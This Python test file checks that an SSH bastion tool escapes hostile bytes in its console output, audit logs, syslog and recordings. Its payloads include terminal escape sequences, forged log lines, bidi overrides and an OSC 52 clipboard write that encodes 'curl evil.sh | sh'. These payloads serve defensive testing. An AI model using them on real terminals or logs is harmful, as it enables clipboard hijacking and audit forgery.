"""Terminal and log injection: hostile bytes in every field a person or a log later reads.

Each test puts escape sequences (erase line, cursor up, OSC 52 clipboard write, OSC 0 title), a
carriage return that over-prints a forged ``VALID``, a bare newline that forges a whole line, a C1
CSI (U+009B), bidi overrides and invalid UTF-8 into a field an attacker controls (a key comment,
a target's name, host, labels and logins, a reason, an exec command line, a subsystem or
forwarding name, a control command's arguments, a recording's header and file name, a target's
refusal message, a webhook's HTTP status line), then runs every command that shows that field.
The human output must hold no raw control or format character and no extra line; ``--json`` must
give back the exact value. (SSH user names cannot carry such bytes: asyncssh applies SASLprep to
the user name, which prohibits control and bidi characters.)

Everything is real: `zsp` as a subprocess over a real data dir and SQLite, the real bastion with
OpenSSH and asyncssh clients, a real sshd target, and a hostile SSH target (an asyncssh server
that refuses sessions with a hostile reason) on loopback.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import socket
import subprocess
import sys
import threading
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import asyncssh
import pyte
import pytest

from recorder import FileSink, RecordingWriter, SessionMeta, SigningKey, new_session_id
from replay import printable, verify
from tests.bastion_env import POLICY, Env, keygen, make_env
from zsp_tui.access import Actor
from zsp_tui.audit import AuditEvent
from zsp_tui.datadir import DataDir
from zsp_tui.exceptions import UsageError
from zsp_tui.models import SessionRecord, Target
from zsp_tui.sinks import format_rfc5424

# The pieces of an attack, each of which a raw terminal would act on.
ERASE = "\x1b[2K\x1b[1A"  # erase this line, cursor up
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # write the reviewer's clipboard
TITLE = "\x1b]0;pwned\x07"  # change the window title
OVERPRINT = "\rVALID       "  # carriage return: over-print the verdict
FORGE = "\n2026-01-01T00:00:00.000Z      1 ZSP0000I user.create FORGED"  # a whole forged line
CSI1 = "\x9b2J"  # C1 CSI: clear the screen in one character
BIDI = "\u202egnp.exe\u202c\u2066x\u2069\u200e\u200f\u061c"  # right-to-left override, isolates, marks
SEP = "\u2028FORGED\u2029"  # Unicode line and paragraph separators
HOSTILE = f"x{ERASE}{OSC52}{TITLE}{OVERPRINT}{FORGE}{CSI1}{BIDI}{SEP}\x7f\x00end"
"""Every piece at once, for fields that take any text (argv cannot hold NUL: dropped there)."""
ARGV_HOSTILE = HOSTILE.replace("\x00", "")

DANGEROUS = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
AUDIT_LINE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z +\d+ ZSP\d{4}[IWE] ")


def assert_clean(out: bytes | str, *, crlf: bool = False) -> str:
    """No raw control, format or separator character, except each line's own end (``\\n``, or
    ``\\r\\n`` where the bastion writes to an SSH channel). Returns the text."""
    text = out.decode("utf-8", "surrogateescape") if isinstance(out, bytes) else out
    for i, c in enumerate(text):
        if c == "\n" or (crlf and c == "\r" and text[i + 1 : i + 2] == "\n"):
            continue
        assert unicodedata.category(c) not in DANGEROUS, f"raw U+{ord(c):04X} at {i} in {text!r}"
    return text


def lines(text: str) -> list[str]:
    return text.replace("\r\n", "\n").splitlines()


def zsp(data: Path, *args: str | bytes) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "ZSP_DATA": str(data)}
    p = subprocess.run([sys.executable, "-m", "zsp_tui", *args], capture_output=True, env=env, timeout=60)
    assert b"Traceback" not in p.stderr, p.stderr.decode(errors="replace")
    return p


def ok(p: subprocess.CompletedProcess[bytes]) -> str:
    assert p.returncode == 0, p.stderr.decode(errors="replace")
    assert_clean(p.stderr)
    return assert_clean(p.stdout)


def one_error_line(p: subprocess.CompletedProcess[bytes]) -> str:
    assert p.returncode != 0
    err = assert_clean(p.stderr)
    assert len(lines(err)) == 1 and err.startswith("zsp: error: "), err
    return err


def on_screen(text: str, rows: int = 40) -> list[str]:
    """What a terminal shows after printing ``text`` (LF as a terminal on a tty gets it: CR LF)."""
    screen = pyte.Screen(2000, rows)  # wide: no line wraps
    pyte.Stream(screen).feed(text.replace("\r\n", "\n").replace("\n", "\r\n"))
    assert screen.title == "", "the output changed the window title"
    return [row.rstrip() for row in screen.display if row.strip()]


def hostile_key(tmp: Path, name: str) -> tuple[Path, str]:
    """A key pair made by ssh-keygen with a hostile comment (no newline or CR: a .pub file is one
    line). Returns the .pub file and the comment as zsp reads it (invalid UTF-8 as U+FFFD)."""
    comment = f"{name}{ERASE}{OSC52}{TITLE}{CSI1}{BIDI}".encode() + b"\xff\xfe\x1b[31m"
    path = tmp / f"{name}_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(path)], check=True)
    pub = Path(f"{path}.pub")
    return pub, pub.read_text(errors="replace").split(None, 2)[2].strip()


# --- the admin console: users, key comments, targets, requests, grants, audit -----------------


def test_console_commands_escape_every_stored_field(tmp_path: Path) -> None:
    data = tmp_path / "data"
    ok(zsp(data, "init"))
    (data / "policy.toml").write_text(POLICY)
    alice_pub, alice_comment = hostile_key(tmp_path, "alice")
    assert "\x1b]52;" in alice_comment and "\x9b" in alice_comment

    # zsp user add: the key's comment is printed back.
    out = ok(zsp(data, "user", "add", "alice", "--key", str(alice_pub), "--role", "operator,admin"))
    assert len(lines(out)) == 2 and lines(out)[0].startswith("user alice added")
    assert lines(out)[1].startswith("  SHA256:") and "\\x1b]52;c;" in out and "\\u009b2J" in out
    bob = keygen(tmp_path / "bob_ed25519", "bob")
    ok(zsp(data, "user", "add", "bob", "--key", f"{bob}.pub", "--role", "approver", "--as", "alice"))

    # zsp user list: table and exact JSON.
    out = ok(zsp(data, "user", "list"))
    users = json.loads(ok(zsp(data, "user", "list", "--json")))
    assert len(lines(out)) == 1 + len(users)
    assert next(u for u in users if u["name"] == "alice")["keys"][0]["comment"] == alice_comment

    # A target whose name, host, login and label are hostile (an admin's typo, a pasted string,
    # or a compromised admin account preparing a trap for reviewers): refused, field by field, in
    # one clean line, and nothing stored.
    hk = keygen(tmp_path / "host_ed25519", "host")
    name, host, login, label = f"db{TITLE}{FORGE}", f"h{ERASE}{CSI1}", f"root{OSC52}{OVERPRINT}", ARGV_HOSTILE
    safe = {"name": "db1", "--host": "10.0.0.7", "--login": "postgres", "--label": "env=prod"}
    for field, value in (("name", name), ("--host", host), ("--login", login), ("--label", label)):
        argv = {**safe, field: value}
        err = one_error_line(zsp(data, "target", "add", argv["name"], "--host", argv["--host"], "--login",
                                 argv["--login"], "--label", argv["--label"], "--host-key", f"{hk}.pub", "--as", "alice"))
        assert "is not allowed" in err
    assert json.loads(ok(zsp(data, "target", "list", "--json"))) == []
    # Stored anyway (an older zsp, an edited database): every listing still shows it escaped.
    with DataDir(data).service().store.transaction() as tx:
        tx.add_target(Target(name=name, host=host, port=22, logins=(login,), host_key=Path(f"{hk}.pub").read_text(),
                             labels=frozenset({label})), datetime.now(UTC))
    out = ok(zsp(data, "target", "list"))
    targets = json.loads(ok(zsp(data, "target", "list", "--json")))
    assert len(lines(out)) == 1 + len(targets)
    t = next(t for t in targets if t["name"] == name)
    assert (t["host"], t["logins"], t["labels"]) == (host, [login], [label])

    # A request on it, with a reason holding what _check_text lets through (line separators).
    reason = "INC-7\u2028ZSP0000I FORGED\u2029approval"
    out = ok(zsp(data, "request", name, "--login", login, "--for", "30m", "--reason", reason, "--as", "alice"))
    assert len(lines(out)) == 2
    rid = out.split()[0]
    # A reason with raw escapes is refused, in one clean line.
    one_error_line(zsp(data, "request", name, "--login", login, "--for", "30m", "--reason", ARGV_HOSTILE,
                       "--as", "alice"))

    # What alice may request lists the hostile target too (the same lines `ssh zsp@bastion targets` prints).
    out = ok(zsp(data, "targets", "--as", "alice"))
    assert "db\\x1b]0;pwned" in out and assert_clean(out)

    out = ok(zsp(data, "grants"))
    grants = json.loads(ok(zsp(data, "grants", "--json")))
    assert len(lines(out)) == len(grants) == 1
    assert (grants[0]["target"], grants[0]["login"], grants[0]["reason"]) == (name, login, reason)
    out = ok(zsp(data, "deny", rid, "--reason", "no\u2028ZSP0000I FORGED", "--as", "bob"))
    assert len(lines(out)) == 1 and out.startswith(rid)

    # zsp audit: one line per event, each starting with its time; JSON Lines exact.
    out = ok(zsp(data, "audit"))
    events = [json.loads(x) for x in ok(zsp(data, "audit", "--json")).splitlines()]
    assert len(lines(out)) == len(events)
    for line in lines(out):
        assert AUDIT_LINE.match(line), line
    assert next(e for e in events if e["event"] == "access_request.create")["reason"] == reason
    # ...and a terminal showing it holds exactly those lines, none forged or erased.
    assert len(on_screen(out, rows=len(events) + 5)) == len(events)
    assert ok(zsp(data, "audit", "verify")).startswith("audit log OK")

    # Errors that quote what was typed, including bytes that are not UTF-8.
    err = one_error_line(zsp(data, "approve", ARGV_HOSTILE, "--as", "bob"))
    assert "\\x1b]52;c;" in err
    one_error_line(zsp(data, "target", "remove", b"t\xff\x1b]0;x\x07", "--as", "alice"))
    err = one_error_line(zsp(data, "target", "add", b"t\xff\x9b", "--host", "h", "--login", "r",
                             "--host-key", f"{hk}.pub", "--as", "alice"))
    assert "\\xff\\x9b" in err  # refused: text that is not UTF-8 is never stored
    assert len(json.loads(ok(zsp(data, "target", "list", "--json")))) == len(targets)


# --- recordings: header fields and file names ----------------------------------------------------


def _hostile_recording(path: Path, key: SigningKey, *, seal: bool) -> SessionMeta:
    meta = SessionMeta(
        user=f"alice{OVERPRINT}",
        target=f"db1{ERASE}{FORGE}",
        login=f"root{OSC52}",
        grant_id=f"r-{TITLE}",
        term=f"xterm{CSI1}",
        cols=80,
        rows=24,
        command=HOSTILE,
        host=f"bastion{BIDI}",
    )
    w = RecordingWriter(FileSink(path, sync_dir=False), key, meta, session_id=new_session_id())
    w.output(b"hello\r\n")
    if seal:
        w.close(0, "exit")
    else:
        w.flush()
        w.abandon()
    return meta


def test_verify_and_sessions_escape_recording_headers_and_names(tmp_path: Path) -> None:
    data = tmp_path / "data"
    ok(zsp(data, "init"))
    key = SigningKey.load(data / "keys" / "recording_ed25519")
    # The file names are hostile too: `zsp verify` prints the path it was given.
    valid = tmp_path / f"ok{TITLE}{FORGE}.zsprec"
    cut = tmp_path / f"cut{OVERPRINT}.zsprec"
    meta = _hostile_recording(valid, key, seal=True)
    _hostile_recording(cut, key, seal=False)

    p = zsp(data, "verify", str(cut), str(valid))
    assert p.returncode == 1
    out = assert_clean(p.stdout)
    shown = lines(out)
    assert len(shown) == 2 and shown[0].startswith("INCOMPLETE  ") and shown[1].startswith("VALID       ")
    # On a terminal the real verdict stays where it is: no forged VALID over the INCOMPLETE.
    screen = on_screen(out)
    assert len(screen) == 2 and screen[0].startswith("INCOMPLETE") and screen[1].startswith("VALID")
    p = zsp(data, "verify", str(tmp_path / f"missing{TITLE}{FORGE}.zsprec"))
    assert p.returncode == 2 and len(lines(assert_clean(p.stdout))) == 1 and p.stdout.startswith(b"ERROR ")
    reports = json.loads(ok(zsp(data, "verify", "--json", str(valid))))
    r = reports[0]
    assert (r["source"], r["user"], r["target"], r["login"]) == (str(valid), meta.user, meta.target, meta.login)

    # zsp sessions lists what the bastion recorded about the session (the same hostile fields).
    svc = DataDir(data).service()
    report = verify(valid, [key.public])  # the store names the session by its real id and final head
    assert report.header is not None and report.head is not None
    record = SessionRecord(id=str(report.header.session_id), user=meta.user, target=meta.target, login=meta.login,
                           grant_id=meta.grant_id, command=meta.command, client=f"127.0.0.1:1{ERASE}",
                           path=str(valid), started_at=datetime.now(UTC))
    svc.session_started(record)
    svc.session_ended(record, 0, f"exit{OVERPRINT}", report.head.hex())
    out = ok(zsp(data, "sessions"))
    sessions = json.loads(ok(zsp(data, "sessions", "--json")))
    assert len(lines(out)) == 1 + len(sessions)
    s = next(s for s in sessions if s["id"] == record.id)
    assert (s["user"], s["target"], s["login"], s["command"], s["path"]) == (
        meta.user, meta.target, meta.login, meta.command, str(valid))
    out = ok(zsp(data, "audit"))
    assert all(AUDIT_LINE.match(line) for line in lines(out)), out
    # `zsp verify SESSION_ID` resolves through the store to the hostile path, and stays clean.
    p = zsp(data, "verify", record.id)
    assert p.returncode == 0 and len(lines(assert_clean(p.stdout))) == 1


# --- the bastion: exec commands, subsystems, forwarding names, control commands ------------------


@pytest.fixture
def remote_env(tmp_path: Path) -> Iterator[Env]:
    e = make_env(tmp_path, with_sshd=True)
    e.start()
    yield e
    e.stop()
    if e.sshd:
        e.sshd.stop()
    assert_clean("".join(e.output))  # the bastion's own log


async def _hostile_client(env: Env) -> dict[str, bytes]:
    """What an asyncssh client can send: forwarding names with control characters, any
    control-command string. (SSH user names cannot carry them: asyncssh applies SASLprep to the
    user name on both ends, which prohibits control and bidi characters.)"""
    out: dict[str, bytes] = {}
    opts = env.asyncssh_options("alice")
    async with asyncssh.connect("127.0.0.1", username="zsp", **opts) as conn:
        with pytest.raises(asyncssh.ChannelOpenError):
            await conn.open_connection(f"evil{TITLE}{FORGE}.example", 80)
        with pytest.raises(asyncssh.ChannelOpenError):
            await conn.open_unix_connection(f"/run/{ERASE}{FORGE}.sock")
        r = await conn.run(f"approve 'r-{ARGV_HOSTILE}'", encoding=None)
        out["approve-error"] = r.stderr
        r = await conn.run(f"request 'nosuch{TITLE}{CSI1}' --for 10m", encoding=None)
        out["request-error"] = r.stderr
        r = await conn.run(f"grants --bogus{OSC52}", encoding=None)
        out["usage-error"] = r.stderr
    return out


def test_bastion_and_control_commands_escape_what_clients_send(remote_env: Env) -> None:
    env = remote_env
    assert env.sshd is not None
    login = env.svc.target("srv").default_login
    data = env.data.root

    # An exec command line with every hostile piece (quoted: the target's shell ignores it).
    env.grant("srv", login)
    command = f"true '{ARGV_HOSTILE}'"
    p = env.ssh("alice", f"{login}@srv", command)
    assert p.returncode == 0, p.stderr

    # A subsystem name: refused, the refusal quotes it.
    subsystem = f"sftp{ERASE}{OSC52}{TITLE}{OVERPRINT}{FORGE}\x7f"  # ASCII: asyncssh refuses other names
    p = subprocess.run([*env.ssh_argv("alice", "srv", "-s"), subsystem], capture_output=True, timeout=60)
    assert p.returncode != 0
    assert len(lines(assert_clean(p.stderr, crlf=True))) == 1, p.stderr

    replies = asyncio.run(_hostile_client(env))
    for what, err in replies.items():
        text = assert_clean(err, crlf=True)
        assert len(lines(text)) <= 2, (what, text)  # the refusal, and at most one hint line
        assert "\\x1b" in text or "\\u009b" in text, (what, text)

    # A pending request on a target with hostile name, host and login, and a reason that holds
    # line separators, as approvers see it over SSH.
    name, host = f"db{TITLE}{FORGE}", f"h{ERASE}{CSI1}"
    with pytest.raises(UsageError, match="is not allowed"):  # refused through the service...
        env.svc.add_target(Actor("alice"), Target(name=name, host=host, port=22, logins=("root",), host_key=""))
    pinned = env.svc.target("srv").host_key
    with env.svc.store.transaction() as tx:  # ...but stored anyway (an older zsp, an edited database)
        tx.add_target(Target(name=name, host=host, port=22, logins=(f"root{OSC52}",), host_key=pinned),
                      datetime.now(UTC))
    reason = f"INC-9\u2028{FORGE.strip()}\u2029done"
    rid = env.svc.request(Actor("alice"), name, None, timedelta(minutes=10), reason).id
    for user, control in (("bob", "status"), ("alice", "status"), ("alice", "grants"), ("bob", "grants")):
        p = subprocess.run([*env.ssh_argv(user, "zsp"), control], capture_output=True, timeout=60)
        assert p.returncode == 0, p.stderr
        out = assert_clean(p.stdout)
        assert rid in out and all(rid not in x or x.lstrip().startswith(rid) for x in lines(out)), out
    status = assert_clean(subprocess.run([*env.ssh_argv("bob", "zsp"), "status"], capture_output=True).stdout)
    assert "reason: INC-9\\u2028" in status
    grants = json.loads(subprocess.run([*env.ssh_argv("alice", "zsp"), "grants", "--json"], capture_output=True,
                                       timeout=60).stdout)
    mine = next(g for g in grants if g["id"] == rid)
    assert (mine["target"], mine["login"], mine["reason"]) == (name, f"root{OSC52}", reason)

    # zsp audit and zsp sessions on the console: one clean line per event and session...
    out = ok(zsp(data, "audit"))
    events = [json.loads(x) for x in ok(zsp(data, "audit", "--json")).splitlines()]
    assert len(lines(out)) == len(events) and all(AUDIT_LINE.match(x) for x in lines(out)), out
    # ...while the JSON holds exactly what the clients sent.
    start = next(e for e in events if e["event"] == "session.start")
    assert start["command"] == command
    refused = [e for e in events if e["event"] == "channel.refused"]
    details = {e["kind"]: e["detail"] for e in refused}
    assert details["subsystem"] == subsystem
    assert details["direct-tcpip"] == f"evil{TITLE}{FORGE}.example:80"
    assert details["direct-streamlocal"] == f"/run/{ERASE}{FORGE}.sock"
    sessions = json.loads(ok(zsp(data, "sessions", "--json")))
    assert sessions[-1]["command"] == command
    assert len(lines(ok(zsp(data, "sessions")))) == 1 + len(sessions)

    # A grant that starts at once (break-glass): the reply tells how to open it, quoting the
    # hostile login and target.
    env.data.policy_path.write_text(POLICY + '\n[break_glass]\nenabled = true\nrequesters = ["role:admin"]\n'
                                    'max_duration = "30m"\n')
    env.svc.cancel(Actor("alice"), rid)
    request = f"request '{name}' --for 10m --break-glass --reason INC-10"
    reply = asyncio.run(_control(env, "alice", request))
    assert reply.exit_status == 0, reply.stderr
    out = assert_clean(reply.stdout)
    assert len(lines(out)) == 2 and lines(out)[1].startswith("open it: ssh ") and "\\x1b]52;c;" in out, out


async def _control(env: Env, user: str, command: str) -> asyncssh.SSHCompletedProcess:
    async with asyncssh.connect("127.0.0.1", username="zsp", **env.asyncssh_options(user)) as conn:
        return await conn.run(command, encoding=None)


# --- a hostile target: its refusal message reaches the operator and the audit log --------------


@contextlib.contextmanager
def hostile_target(reason: str) -> Iterator[tuple[int, str]]:
    """An SSH server (asyncssh, on loopback, in its own thread) that lets anyone in and refuses
    every session with ``reason``: what a compromised target can send back through the bastion."""

    class Refuser(asyncssh.SSHServer):
        def begin_auth(self, username: str) -> bool:
            return False

        def session_requested(self) -> bool:
            raise asyncssh.ChannelOpenError(asyncssh.OPEN_ADMINISTRATIVELY_PROHIBITED, reason)

    key = asyncssh.generate_private_key("ssh-ed25519")
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()

    async def listen() -> asyncssh.SSHAcceptor:
        return await asyncssh.listen("127.0.0.1", 0, server_factory=Refuser, server_host_keys=[key])

    server = asyncio.run_coroutine_threadsafe(listen(), loop).result(10)
    try:
        yield server.sockets[0].getsockname()[1], key.export_public_key().decode().strip()
    finally:
        server.close()
        asyncio.run_coroutine_threadsafe(server.wait_closed(), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()


def test_a_hostile_targets_refusal_cannot_drive_the_operators_terminal(tmp_path: Path) -> None:
    env = make_env(tmp_path)
    refusal = f"no{ERASE}{OSC52}{TITLE}{OVERPRINT}{FORGE}{CSI1}{BIDI}"
    with hostile_target(refusal) as (port, host_key):
        env.svc.add_target(Actor("alice"), Target(name="evil", host="127.0.0.1", port=port, logins=("root",),
                                                  host_key=host_key))
        env.grant("evil", "root")
        env.start()
        try:
            p = subprocess.run([*env.ssh_argv("alice", "root@evil"), "true"], capture_output=True, timeout=60)
        finally:
            env.stop()
    assert p.returncode != 0
    err = assert_clean(p.stderr, crlf=True)
    assert "[zsp] evil refused the session: no\\x1b[2K" in err and len(lines(err)) <= 2, err
    assert_clean("".join(env.output))
    out = ok(zsp(env.data.root, "audit"))
    assert all(AUDIT_LINE.match(x) for x in lines(out)), out
    events = [json.loads(x) for x in ok(zsp(env.data.root, "audit", "--json")).splitlines()]
    assert any(e["event"] == "upstream.error" and e["message"].endswith(refusal) for e in events)


# --- sinks: syslog and a webhook's error ---------------------------------------------------------


def _event(**fields: str | int | bool | None) -> AuditEvent:
    return AuditEvent(seq=7, event="user.create", code="ZSP2000I", time=datetime(2026, 11, 30, tzinfo=UTC),
                      actor="alice", via="console", outcome="success", message=f"user x created{FORGE}{TITLE}",
                      target=None, login=None, grant_id=None, session_id=None, fields=dict(fields))


def test_syslog_structured_data_is_rfc5424() -> None:
    msg = format_rfc5424(_event(bootstrap=True, dry=False, keys=2, note='a"b\\c]d', evil=HOSTILE), "bastion", 42)
    text = msg.decode()
    assert "\n" not in text and "\r" not in text
    assert_clean(text)
    assert ' bootstrap="true" ' in text and ' dry="false" ' in text and ' keys="2" ' in text
    sd = text[text.index("[zsp@32473 ") : text.index("] user x created")]
    # Inside SD-PARAM values only escaped ", \ and ] occur (RFC 5424 6.3.3): the element cannot be
    # closed early, and a collector that undoes those escapes reads the printable form of the value.
    assert re.fullmatch(r'\[zsp@32473( [a-z_]+="(?:[^"\\\]]|\\["\\\]])*")+', sd), sd
    params = {k: re.sub(r'\\(["\\\]])', r"\1", v) for k, v in re.findall(r'([a-z_]+)="((?:[^"\\]|\\.)*)"', sd)}
    assert params["note"] == printable('a"b\\c]d') == 'a"b\\\\c]d'
    assert params["evil"] == printable(HOSTILE)
    assert text.endswith("user x created\\n2026-01-01T00:00:00.000Z      1 ZSP0000I user.create FORGED"
                         "\\x1b]0;pwned\\x07")


def test_syslog_from_the_cli_and_a_hostile_webhook_error(tmp_path: Path) -> None:
    data = tmp_path / "data"
    ok(zsp(data, "init"))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(10)

    class Hostile(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(500, f"oops{ERASE}{TITLE}{OVERPRINT}{CSI1}")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    http = HTTPServer(("127.0.0.1", 0), Hostile)
    threading.Thread(target=http.serve_forever, daemon=True).start()
    try:
        (data / "zsp.toml").write_text(
            f'[audit]\nsyslog = "udp://127.0.0.1:{udp.getsockname()[1]}"\n'
            f'webhook = "http://127.0.0.1:{http.server_address[1]}/hook"\n'
        )
        (data / "policy.toml").write_text(POLICY)
        alice_pub, _comment = hostile_key(tmp_path, "alice")
        ok(zsp(data, "user", "add", "alice", "--key", str(alice_pub), "--role", "operator,admin"))
        record = udp.recv(65536).decode()
        assert ' bootstrap="true" ' in record and "\n" not in record
        # The webhook answers with a hostile status line; the warning quoting it stays clean.
        hk = keygen(tmp_path / "host_ed25519", "host")
        ok(zsp(data, "target", "add", "web", "--host", "127.0.0.1", "--login", "deploy", "--host-key", f"{hk}.pub",
               "--as", "alice"))
        p = zsp(data, "request", "web", "--for", "10m", "--reason", "INC-1", "--as", "alice")
        assert p.returncode == 0
        warning = assert_clean(p.stderr)
        assert len(lines(warning)) == 1 and "HTTP Error 500: oops\\x1b[2K" in warning, warning
    finally:
        http.shutdown()
        http.server_close()
        udp.close()
